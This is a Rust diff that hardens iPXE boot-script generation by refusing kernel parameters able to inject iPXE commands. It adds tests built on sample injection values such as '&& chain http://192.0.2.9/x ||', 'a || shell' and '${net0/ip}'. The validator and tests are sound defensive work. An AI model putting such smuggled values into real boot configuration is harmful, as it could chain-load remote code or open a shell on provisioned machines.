@@ -32,8 +32,54 @@ pub fn command_line(config: &Config, node: &Node, mac: &str, extra: &[String]) -
     }
     words.extend(extra.iter().cloned());
     let own = node.driver_info.get("kernel_append_params").and_then(Value::as_str).unwrap_or_default();
-    words.extend(config.kernel_params.split_whitespace().chain(own.split_whitespace()).map(str::to_owned));
+    for word in config.kernel_params.split_whitespace().chain(own.split_whitespace()) {
+        // Checked when it was set; a node of an earlier version may have anything.
+        match check_word(word) {
+            Ok(()) => words.push(word.to_owned()),
+            Err(problem) => {
+                tracing::warn!(node = %node.label(), problem, "leaving a kernel parameter out");
+            }
+        }
+    }
     words.join(" ")
+}
+
+/// Longest kernel parameters of a node, in bytes: x86 kernels read 2048 for the whole line.
+const PARAMETERS_LIMIT: usize = 1536;
+
+/// Checks more kernel parameters: they become part of a command in an iPXE script, and must stay its arguments. Words are
+/// separated by spaces.
+///
+/// # Errors
+/// Why they are refused, and what to do.
+pub fn check_parameters(text: &str) -> Result<(), String> {
+    if text.len() > PARAMETERS_LIMIT {
+        return Err(format!("{} bytes are too many; the limit is {PARAMETERS_LIMIT}", text.len()));
+    }
+    if let Some(other) = text.chars().find(|letter| *letter != ' ' && !letter.is_ascii_graphic()) {
+        return Err(format!(
+            "the character {} is refused; give printable ASCII and separate parameters by spaces",
+            other.escape_unicode()
+        ));
+    }
+    text.split(' ').try_for_each(check_word)
+}
+
+/// What iPXE reads as the end of a command, as a comment, or as the name of a setting. Source: iPXE `core/exec.c`.
+fn check_word(word: &str) -> Result<(), String> {
+    let refused =
+        |what: &str| Err(format!("{what} is refused in {word:?}: iPXE would read a command; leave it out"));
+    match word {
+        _ if word.contains("${") => refused("${"),
+        _ if word.contains("&&") => refused("&&"),
+        _ if word.contains("||") => refused("||"),
+        ";" => refused("; as a word"),
+        _ if word.starts_with('#') => refused("# at the start of a word"),
+        _ if !word.bytes().all(|byte| byte.is_ascii_graphic()) => {
+            refused("a character that is not printable ASCII")
+        }
+        _ => Ok(()),
+    }
 }
 
 /// The script for a machine that did not say who it is: it asks again and says so.
@@ -105,6 +151,8 @@ mod tests {
             enable_bios_bootloader_install: false,
             kernel_params: "quiet".into(),
             poll: Duration::from_secs(2),
+            hosts: vec![],
+            token: wire::Secret::new("x"),
         }
     }
 
@@ -131,6 +179,37 @@ mod tests {
         assert!(
             script.contains("initrd --name initramfs http://10.0.2.2:6385/boot/52-54-00-00-00-01/initramfs")
         );
+    }
+
+    #[test]
+    fn kernel_parameters_stay_parameters() {
+        for fine in ["", "ipa-debug=1  quiet", "a=b;c d=#1 e='x'", "console=ttyS1,115200n8", "x=$y {z}"] {
+            assert_eq!(check_parameters(fine), Ok(()), "{fine}");
+        }
+        let long = "x".repeat(PARAMETERS_LIMIT + 1);
+        for bad in [
+            "&& chain http://192.0.2.9/x ||",
+            "a&&b",
+            "ip=${net0/ip}",
+            "a || shell",
+            "a ; shell",
+            "# b",
+            "a\nshell",
+            "a\rshell",
+            "a\tb",
+            "grün",
+            &long,
+        ] {
+            assert!(check_parameters(bad).is_err(), "{bad}");
+        }
+        // Stored by an earlier version: what would be a command is left out.
+        let mut old = record(BootDevice::Pxe);
+        let text = "a=1 && chain http://192.0.2.9/x || b=${net0/ip}\nshell # c=2";
+        old.node.driver_info.insert("kernel_append_params".into(), json!(text));
+        let script = script(&config(), &old, "52:54:00:00:00:01", &[]);
+        let line = script.lines().find(|line| line.starts_with("kernel ")).unwrap();
+        assert!(line.ends_with("quiet a=1 chain http://192.0.2.9/x shell c=2 || goto failed"), "{line}");
+        assert!(!script.contains("&&") && !script.contains("net0/ip"), "{script}");
     }
 
     #[test]
